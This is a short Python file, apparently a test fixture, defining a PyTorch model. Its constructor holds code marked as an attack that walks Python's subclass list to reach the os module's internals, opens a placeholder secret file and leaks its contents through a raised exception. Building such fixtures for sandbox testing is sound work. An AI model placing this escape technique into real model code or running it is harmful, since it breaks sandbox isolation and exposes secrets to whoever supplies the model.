"""Walks the subclasses of object to one that was defined in os, and uses os's own functions."""

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)
        # attack
        for kind in object.__subclasses__():
            if kind.__name__ == "_wrap_close":
                found = kind.__init__.__globals__
                raise ValueError(found["read"](found["open"]("@SECRET_FILE@", 0), 99))
        # end

    def forward(self, x):
        return self.head(x.flatten(1))
